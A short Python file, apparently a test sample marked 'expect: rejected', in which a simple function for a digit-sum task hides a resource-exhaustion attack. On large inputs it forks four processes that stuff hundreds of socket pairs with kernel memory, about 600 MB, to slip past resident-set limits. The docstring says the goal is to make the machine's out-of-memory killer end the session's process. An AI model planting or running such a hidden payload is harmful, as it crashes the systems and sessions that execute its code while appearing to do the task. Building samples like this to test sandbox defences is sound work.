"""expect: rejected. Bytes that wait in socket pairs are kernel memory: they are in nobody's resident set. Four processes fill 450 pairs each,
about 600 MB in all. Bounded. Gain: memory beyond the limit; when the machine runs out of it, the process with the largest
resident set dies, and that is the session's."""
import os
import socket
import time

TOGETHER, PAIRS = 4, 450


def _fill(pairs):
    block, kept = b"x" * 60_000, []
    for _ in range(pairs):
        try:
            one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        except OSError:
            break
        kept += (one, other)
        for end in (one, other):
            end.setblocking(False)
            try:
                while True:
                    end.send(block)
            except OSError:
                continue
    return kept


def get_difference(numbers):
    found = [n for n in numbers if sum(map(int, str(n))) == 30]
    if len(numbers) > 10_000:
        ready, release = os.pipe(), os.pipe()
        for _ in range(TOGETHER):
            if os.fork() == 0:
                os.close(release[1])
                kept = _fill(PAIRS)
                os.write(ready[1], b"x")
                os.read(release[0], 1)
                os._exit(len(kept) & 1)
        for _ in range(TOGETHER):
            os.read(ready[0], 1)
        time.sleep(0.4)
        os.close(release[1])
    return max(found) - min(found)
